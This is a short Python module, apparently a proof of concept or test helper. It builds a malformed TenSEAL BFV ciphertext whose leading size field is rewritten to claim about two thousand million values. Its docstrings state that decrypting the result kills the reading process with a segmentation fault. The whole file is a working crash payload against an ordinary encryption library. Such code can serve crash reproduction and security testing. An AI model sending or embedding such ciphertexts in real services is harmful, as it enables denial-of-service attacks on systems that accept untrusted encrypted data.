"""A ciphertext that ends the process of whoever lets TenSEAL read it."""

from typing import Any

import tenseal as ts

_TWO_THOUSAND_MILLION = b"\xff\xff\xff\xff\x07"  # as a varint


def killing(context: Any) -> bytes:
    """An honest ciphertext of ``context`` that says it has two thousand million values; decrypting it is a SIGSEGV."""
    honest = bytes(ts.bfv_vector(context, [1] * 4096).serialize())
    assert honest[:1] == b"\x0a", "TenSEAL 0.3 writes the number of values first"
    return b"\x0a" + bytes([len(_TWO_THOUSAND_MILLION)]) + _TWO_THOUSAND_MILLION + honest[2 + honest[1] :]
